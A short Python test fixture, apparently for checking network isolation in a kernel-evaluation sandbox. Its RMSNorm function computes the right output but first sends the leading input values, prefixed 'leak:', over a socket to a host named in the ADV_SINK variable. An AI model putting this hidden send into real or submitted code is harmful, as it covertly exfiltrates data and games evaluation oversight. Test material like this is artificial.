"""Sends a few input bytes to ``$ADV_SINK`` (host:port) from inside the timed calls, then computes honestly:
whether the send got through is what the test reads, on the sink's side."""
import os
import socket

import torch


def _rms(x, w):
    xf = x.float()
    return (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + 1e-5) * w.float()).to(x.dtype)


def _send(payload: bytes) -> None:
    host, _, port = os.environ.get("ADV_SINK", "").rpartition(":")
    if not host:
        return
    try:
        with socket.create_connection((host, int(port)), timeout=1.0) as s:
            s.sendall(payload)
    except OSError:
        pass


def run(hidden_states, weight):
    _send(b"leak:" + hidden_states.float().flatten()[:4].cpu().numpy().tobytes())
    return _rms(hidden_states, weight)
